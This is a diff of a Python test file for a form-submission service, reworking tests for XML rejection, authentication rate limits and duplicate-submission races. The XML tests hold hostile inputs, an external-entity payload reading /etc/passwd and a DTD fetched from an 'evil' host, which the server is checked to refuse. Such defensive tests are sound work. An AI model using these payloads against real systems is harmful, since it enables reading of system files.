@@ -98,7 +98,10 @@ class SubmissionTest(CollectTestCase):
             b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
             b'<data id="demo_hogar" version="1"><nombre>&x;</nombre></data>'
         )
-        dtd = b'<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://evil/x.dtd"><data id="demo_hogar"/>'
+        dtd = (
+            b'<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://evil/x.dtd">'
+            b'<data id="demo_hogar"/>'
+        )
         cases = [
             (bomb, 400, "DTD"),
             (external, 400, "DTD"),
@@ -183,7 +186,7 @@ class AuthTest(CollectTestCase):
                      for i in range(3)]  # fmt: skip
             ok = self.client.get(self.key("formList")).status_code
         self.assertEqual(codes, [401, 401, 429])
-        self.assertEqual(ok, 429)  # the address waits, whatever it sends
+        self.assertEqual(ok, 200)  # a good token is no guess: the device carries on
 
     def test_basic_auth_over_https_with_a_password_for_roles_without_second_factor(self) -> None:
         import base64
@@ -219,37 +222,26 @@ class AuthTest(CollectTestCase):
 
 
 class LostRaceTest(CollectTestCase):
-    """The race, made to happen on any database: another request stores the same instance
-    between this request's look-up and its insert. The unique constraint refuses the insert,
-    and the loser answers as a re-send (202), or 409 when its content differs."""
+    """The race, on any database: the insert comes first and the unique constraint decides,
+    so a re-send and the loser of two concurrent sends take the same path (IntegrityError,
+    roll back, read the row that is there, compare the content)."""
 
-    def test_it_answers_the_loser_of_a_race_as_a_resend(self) -> None:
+    def test_it_decides_by_the_unique_constraint_not_by_a_look_beforehand(self) -> None:
         from unittest import mock
 
         from caminantes.collect import intake
 
         iid = new_instance_id()
         post_submission(self.client, self.key("submission"), instance_xml(iid))
-        real = intake._resend
-        calls: list[int] = []
-
-        def look_away(*args: object, **kwargs: object) -> object:
-            calls.append(1)
-            return real(*args, **kwargs)  # type: ignore[arg-type]
-
-        qs = Submission.objects.none()
-        with (
-            mock.patch.object(intake, "_resend", look_away),
-            mock.patch.object(
-                intake.Submission.objects,
-                "select_related",
-                side_effect=[qs, Submission.objects.select_related("form__organization")],
-            ),
-        ):
-            r = post_submission(self.client, self.key("submission"), instance_xml(iid))
-        self.assertEqual(r.status_code, 202, r.content)
-        self.assertEqual(calls, [1])
+        with mock.patch.object(intake, "_resend", wraps=intake._resend) as resend:
+            same = post_submission(self.client, self.key("submission"), instance_xml(iid))
+            other = post_submission(self.client, self.key("submission"),
+                                    instance_xml(iid, personas=9))  # fmt: skip
+        self.assertEqual((same.status_code, other.status_code), (202, 409))
+        self.assertEqual(resend.call_count, 2)
         self.assertEqual(Submission.objects.filter(instance_id=iid).count(), 1)
+        denial = AuditEvent.objects.get(action="access_denied", context__reason="instance_conflict")
+        self.assertEqual(denial.outcome, "denied")
 
 
 @unittest.skipUnless(
